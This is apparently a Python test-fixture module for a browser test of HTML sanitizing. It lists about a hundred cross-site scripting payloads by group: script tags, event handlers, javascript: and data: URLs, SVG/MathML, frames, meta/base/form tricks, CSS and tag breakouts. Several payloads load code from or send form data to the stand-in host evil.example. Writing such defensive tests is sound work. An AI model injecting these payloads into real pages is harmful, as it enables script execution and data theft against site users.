"""Script payloads for the browser test: each one would call alert() or set `window.__xss` if it
ever ran, or load something from outside 127.0.0.1 if it ever got through.

Grouped by the kinds the issue lists; the ids name the group, so a test report reads as a tally.
"""

from __future__ import annotations

SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT>window.__xss=1</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=data:,alert(1)></script>",
    "<script src=https://evil.example/xss.js></script>",
    "<script/xss src=https://evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="module">window.__xss=1</script>',
]
EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=window.__xss=1>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style onload=alert(1)></style>",
    '<a href="https://ok.example/" onclick="alert(1)" onfocus="alert(1)" autofocus>x</a>',
]
SCRIPT_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " \t javascript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "javascript://%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="javascript:alert(1)">',
    '<img srcset="javascript:alert(1) 1x">',
]
SVG_MATHML = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "<svg><image href=x onerror=alert(1)></image></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></iframe></foreignObject></svg>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
]
FRAMES_AND_EMBEDS = [
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<applet code="x.class"></applet>',
]
DOCUMENT_TRICKS = [
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/">',
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<form action="https://evil.example/steal"><input name="x" autofocus></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="import" href="https://evil.example/x.html">',
]
CSS = [
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="background-image:url(https://evil.example/track.png)">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<style>*{background:url(https://evil.example/t.png)}</style>",
]
COMMENTS_AND_CDATA = [
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<?xml-stylesheet href="javascript:alert(1)"?>',
]
UNCLOSED_AND_BREAKOUTS = [
    "<p><b><i>unclosed <script>alert(1)",
    "<script>alert(1)",
    '<a href="javascript:alert(1)">unclosed',
    "<iframe src=javascript:alert(1) ",
    '<div title="x><script>alert(1)</script>',
    '"><script>alert(1)</script>',
    "'\"><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "{{ 7*7 }}{% raw %}<script>alert(1)</script>{% endraw %}",
]

GROUPS = {
    "script": SCRIPT,
    "handler": EVENT_HANDLERS,
    "url": SCRIPT_URLS,
    "svg-mathml": SVG_MATHML,
    "frame-embed": FRAMES_AND_EMBEDS,
    "document": DOCUMENT_TRICKS,
    "css": CSS,
    "comment-cdata": COMMENTS_AND_CDATA,
    "unclosed": UNCLOSED_AND_BREAKOUTS,
}

#: (id, payload) for every vector, ids like "url-03".
VECTORS: list[tuple[str, str]] = [
    (f"{group}-{number:02d}", payload)
    for group, payloads in GROUPS.items()
    for number, payload in enumerate(payloads, start=1)
]
